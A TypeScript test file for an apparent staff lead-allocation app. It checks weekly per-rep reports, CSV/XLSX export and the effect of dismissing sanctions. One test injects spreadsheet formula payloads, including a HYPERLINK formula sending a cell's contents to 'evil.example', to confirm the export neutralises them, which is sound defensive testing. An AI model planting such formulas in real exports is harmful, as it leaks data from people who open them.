/**
 * The weekly report against numbers worked out from examples/history.jsonl and the engine's
 * `simulate` alone.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AllotEvent } from '@allot/engine';
import { zoneOf } from '@allot/engine';
import { weekByKey, weekOf } from '../../people';
import { defaultWeek, findWeek, listWeeks, weeklyReport, WEEKLY_FIELDS } from '../weekly';
import type { WeekEntry, WeeklyRow } from '../weekly';
import readXlsxFile from 'read-excel-file/node';
import { weeklyCsv, weeklyXlsx } from '../weekly-csv';
import { historyEvents, openSeededApp, simulated } from '../../shared/test/seeded-app';
import type { SeededApp } from '../../shared/test/seeded-app';

const DAY = 86_400_000;
const FOLLOW_UP_MS = 10 * 60_000; // D1 of the seed policy

/**
 * The W1 numbers of the week starting on the Monday `key`, worked out from examples/history.jsonl
 * and the engine's `simulate` output alone (no store), with instants compared as numbers.
 */
function expectedRows(key: string): Map<string, Omit<WeeklyRow, 'name' | 'level'>> {
  const from = Date.parse(`${key}T00:00:00+08:00`);
  const to = from + 7 * DAY;
  const inWeek = (at: string): boolean => Date.parse(at) >= from && Date.parse(at) < to;
  const staff = new Map<string, { role: string; joined: number; left: number | null }>();
  for (const e of historyEvents) {
    if (e.type === 'staff.joined') staff.set(e.staffId, { role: e.role, joined: staff.get(e.staffId)?.joined ?? Date.parse(e.at), left: null });
    if (e.type === 'staff.left') {
      const m = staff.get(e.staffId);
      if (m !== undefined) m.left = Date.parse(e.at);
    }
  }
  const rows = new Map<string, Omit<WeeklyRow, 'name' | 'level'>>();
  for (const [id, m] of staff) {
    if (m.role !== 'rep' || m.joined >= to || (m.left !== null && m.left <= from)) continue;
    rows.set(id, { staffId: id, ...Object.fromEntries(WEEKLY_FIELDS.map((f) => [f, 0])) } as Omit<WeeklyRow, 'name' | 'level'>);
  }
  const byId = new Map<string, AllotEvent>(historyEvents.map((e) => [e.id, e]));
  const late = new Set(simulated.filter((d) => d.rule === 'D1' && (d.kind === 'staff.paused' || d.kind === 'staff.fined')).flatMap((d) => d.cause.map((c) => `${'staffId' in d ? d.staffId : ''}|${c}`)));
  const allocations: { staffId: string; clientId: string; at: number; direct: boolean; source: string }[] = [];
  for (const e of historyEvents) {
    if (!inWeek(e.at)) continue;
    if (e.type === 'client.registered' && rows.has(e.staffId)) (rows.get(e.staffId) as WeeklyRow).registered++;
    if (e.type === 'lead.assigned' && rows.has(e.staffId)) allocations.push({ staffId: e.staffId, clientId: e.clientId, at: Date.parse(e.at), direct: e.mode === 'direct', source: e.id });
  }
  for (const d of simulated) {
    if (!inWeek(d.at)) continue;
    const row = 'staffId' in d ? rows.get(d.staffId) : d.kind === 'client.reclaimed' ? rows.get(d.fromStaffId) : undefined;
    if (row === undefined) continue;
    if (d.kind === 'lead.allocated') {
      const cause = byId.get(d.cause[0] ?? '');
      allocations.push({ staffId: d.staffId, clientId: d.clientId, at: Date.parse(d.at), direct: cause?.type === 'lead.allocate' && cause.mode === 'direct', source: d.cause[0] ?? '' });
    } else if (d.kind === 'registration.rejected') row.registrationsRejected++;
    else if (d.kind === 'staff.fined') {
      row.fines++;
      row.finesFen += d.amountFen;
    } else if (d.kind === 'staff.paused') row.pauses += d.count;
    else if (d.kind === 'staff.banned') row.bans++;
    else if (d.kind === 'staff.hotline_banned') row.hotlineBans++;
    else if (d.kind === 'client.review_due') row.reviewNotices++;
    else if (d.kind === 'client.reclaim_due' || (d.kind === 'client.reclaimed' && d.rule === 'R3')) row.reclaimNotices++;
  }
  for (const a of allocations) {
    const row = rows.get(a.staffId) as WeeklyRow;
    row.allocations++;
    if (!a.direct) continue;
    row.direct++;
    if (late.has(`${a.staffId}|${a.source}`)) row.followUpsLate++;
    else if (historyEvents.some((c) => c.type === 'contact.made' && c.staffId === a.staffId && c.clientId === a.clientId && Date.parse(c.at) >= a.at && Date.parse(c.at) <= a.at + FOLLOW_UP_MS)) row.followUpsInTime++;
  }
  return rows;
}

describe('the weekly report (W1)', () => {
  let app: SeededApp;
  let weeks: WeekEntry[];
  beforeAll(async () => {
    app = await openSeededApp('2026-11-27T09:00:00+08:00');
    weeks = await listWeeks(app);
  }, 120_000);
  afterAll(async () => {
    await app?.close();
  });

  it('has weeks from Monday 00:00 to Monday 00:00 China time, from the first event to the runtime’s time', async () => {
    const zone = zoneOf('Asia/Shanghai');
    expect(weekOf(zone, Date.parse('2026-03-29T23:59:59+08:00'))).toEqual({ key: '2026-03-23', from: '2026-03-23T00:00:00+08:00', to: '2026-03-30T00:00:00+08:00' });
    expect(weekOf(zone, Date.parse('2026-03-29T16:00:00Z')).key).toBe('2026-03-30');
    expect(weekByKey(zone, '2026-03-24')).toBeNull();
    expect(weekByKey(zone, '2026-02-30')).toBeNull();
    expect(await findWeek(app, 'next week')).toBeNull();
    expect(await findWeek(app, '2026-03-16')).toMatchObject({ from: '2026-03-16T00:00:00+08:00', complete: true });
    // The history runs Thursday 2026-01-01 to Tuesday 2026-03-31: 14 weeks, the last one not over
    // at the runtime's time (the wall clock of this test is months later and does not count).
    expect(weeks.map((w) => w.key)).toEqual(Array.from({ length: 14 }, (_, i) => new Date(Date.UTC(2026, 2, 30) - i * 7 * DAY).toISOString().slice(0, 10)));
    expect(weeks[0]).toMatchObject({ key: '2026-03-30', complete: false });
    expect(weeks[13]?.key).toBe('2025-12-29');
    expect(defaultWeek(weeks)?.key).toBe('2026-03-23');
  });

  it('gives every rep’s numbers of every week as the history and the engine’s decisions say', async () => {
    let allocations = 0;
    let registered = 0;
    const busy = new Set<string>();
    for (const week of weeks) {
      const report = await weeklyReport(app, week);
      const expected = expectedRows(week.key);
      expect(report.rows.map((r) => r.staffId).sort(), week.key).toEqual([...expected.keys()].sort());
      for (const row of report.rows) {
        const { name: _name, level: _level, ...numbers } = row;
        expect(numbers, `${week.key} ${row.staffId}`).toEqual(expected.get(row.staffId));
      }
      for (const f of WEEKLY_FIELDS) expect(report.totals[f]).toBe(report.rows.reduce((s, r) => s + r[f], 0));
      allocations += report.totals.allocations;
      registered += report.totals.registered;
      for (const f of WEEKLY_FIELDS) if (report.totals[f] > 0) busy.add(f);
    }
    // Every allocation to a rep and every registration falls in exactly one week.
    const reps = new Set(historyEvents.flatMap((e) => (e.type === 'staff.joined' && e.role === 'rep' ? [e.staffId] : [])));
    const toReps = simulated.filter((d) => d.kind === 'lead.allocated' && reps.has(d.staffId)).length + historyEvents.filter((e) => e.type === 'lead.assigned' && reps.has(e.staffId)).length;
    expect(allocations).toBe(toReps);
    expect(registered).toBe(historyEvents.filter((e) => e.type === 'client.registered' && reps.has(e.staffId)).length);
    // The history exercises every column but two: only receptionists are hotline-banned (M3), and
    // R2's six months for a review notice do not pass within its three months.
    expect([...busy].sort()).toEqual(WEEKLY_FIELDS.filter((f) => f !== 'hotlineBans' && f !== 'reviewNotices').sort());
  });

  it('downloads as CSV with a BOM, the UI language’s headers and money in 元', async () => {
    const week = defaultWeek(weeks) as WeekEntry;
    const report = await weeklyReport(app, week);
    const csv = weeklyCsv(report, 'zh');
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [head, ...rows] = parsed.data;
    expect(head?.slice(0, 4)).toEqual(['工号', '姓名', '级别', '新登记客户']);
    expect(rows).toHaveLength(report.rows.length + 1);
    expect(rows[rows.length - 1]?.[0]).toBe('合计');
    const finesCol = (head ?? []).indexOf('罚款（元）');
    for (const [i, r] of report.rows.entries()) {
      expect(rows[i]?.[0]).toBe(r.staffId);
      expect(rows[i]?.[1]).toBe(r.name ?? '');
      expect(rows[i]?.[finesCol]).toBe((r.finesFen / 100).toFixed(2));
    }
    expect(weeklyCsv(report, 'en').split('\r\n')[0]).toBe('\uFEFFStaff ID,Name,Level,Clients registered,Registrations rejected,Allocations,Of which direct,Follow-ups in time,Late follow-ups,Fines,Fines (元),Pauses,Bans,Hotline bans,Review notices,Reclaim notices');
    // No client appears in the report: it is about staff only.
    expect(csv).not.toMatch(/c\d{6}/);
  });

  it('downloads as a formatted .xlsx whose cells read back as the page’s numbers', async () => {
    const week = defaultWeek(weeks) as WeekEntry;
    const report = await weeklyReport(app, week);
    const [sheet] = await readXlsxFile(Buffer.from(await weeklyXlsx(report, 'zh')));
    const [head, ...rows] = sheet?.data ?? [];
    expect(head?.slice(0, 4)).toEqual(['工号', '姓名', '级别', '新登记客户']);
    expect(rows).toHaveLength(report.rows.length + 1);
    const finesCol = (head ?? []).indexOf('罚款（元）');
    for (const [i, r] of [...report.rows, { ...report.totals, staffId: '合计' }].entries()) {
      expect(rows[i]?.[0]).toBe(r.staffId);
      // Money is a number of 元 (formatted #,##0.00"元"), counts are numbers.
      expect(rows[i]?.[finesCol]).toBe(r.finesFen / 100);
      for (const [j, f] of WEEKLY_FIELDS.entries()) if (f !== 'finesFen') expect(rows[i]?.[3 + j]).toBe(r[f]);
    }
  });

  it('neutralises a staff name that is a formula, in the CSV and the workbook', async () => {
    const week = defaultWeek(weeks) as WeekEntry;
    const report = await weeklyReport(app, week);
    const first = report.rows[0] as WeeklyRow;
    const evil = { ...report, rows: [{ ...first, name: '=HYPERLINK("http://evil.example/?"&A1,"点我")' }, { ...first, staffId: '@SUM(1)', name: '+1+1' }] };
    const csv = weeklyCsv(evil, 'zh');
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(parsed[1]?.[1]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点我")');
    expect(parsed[2]?.[0]).toBe("'@SUM(1)");
    expect(parsed[2]?.[1]).toBe("'+1+1");
    const [sheet] = await readXlsxFile(Buffer.from(await weeklyXlsx(evil, 'zh')));
    expect(sheet?.data[1]?.[1]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点我")');
  });
});

describe('the weekly report after a sanction is set aside', () => {
  let app: SeededApp;
  beforeAll(async () => {
    app = await openSeededApp('2026-11-27T09:00:00+08:00');
  }, 120_000);
  afterAll(async () => {
    await app?.close();
  });

  it('counts a follow-up late only while one of its D1 sanctions stands', async () => {
    // A D1 sanction, the allocation it judges, and every D1 sanction citing that allocation.
    const sanctions = await app.db.selectFrom('decisions').select(['decision_id', 'staff_id', 'cause', 'at']).where('rule', '=', 'D1').where('kind', 'in', ['staff.paused', 'staff.fined']).orderBy('seq').execute();
    const first = sanctions[0];
    if (first === undefined) throw new Error('the history has no D1 sanction');
    const source = historyEvents.find((e) => first.cause.includes(e.id) && (e.type === 'lead.allocate' || e.type === 'lead.assigned'));
    const allocatedAt = source === undefined ? first.at.getTime() - FOLLOW_UP_MS : Date.parse(source.at);
    const citing = sanctions.filter((d) => d.staff_id === first.staff_id && d.cause.some((c) => first.cause.includes(c)));
    const week = await findWeek(app, weekOf(zoneOf('Asia/Shanghai'), allocatedAt).key);
    if (week === null || week === undefined) throw new Error('no week');
    const lateOf = async (): Promise<number> => (await weeklyReport(app, week)).rows.find((r) => r.staffId === first.staff_id)?.followUpsLate ?? -1;
    const before = await lateOf();
    expect(before).toBeGreaterThan(0);

    const manager = historyEvents.find((e) => e.type === 'staff.joined' && e.role === 'manager');
    if (manager === undefined || manager.type !== 'staff.joined') throw new Error('no manager');
    const at = new Date(Date.parse(historyEvents[historyEvents.length - 1]?.at ?? '') + 60_000).toISOString();
    // All but the last set aside: the follow-up still counts late.
    const dismiss = (d: { decision_id: string }, i: number): AllotEvent => ({ id: `dismiss-${i}`, type: 'decision.dismissed', at, decisionId: d.decision_id, by: manager.staffId, reason: 'test' }) as AllotEvent;
    if (citing.length > 1) {
      const ingested = await app.runtime.ingest(citing.slice(0, -1).map(dismiss));
      expect(ingested.rejected).toEqual([]);
      expect(await lateOf()).toBe(before);
    }
    const last = await app.runtime.ingest([dismiss(citing[citing.length - 1] as { decision_id: string }, citing.length)]);
    expect(last.rejected).toEqual([]);
    expect(await lateOf()).toBe(before - 1);
  });
});
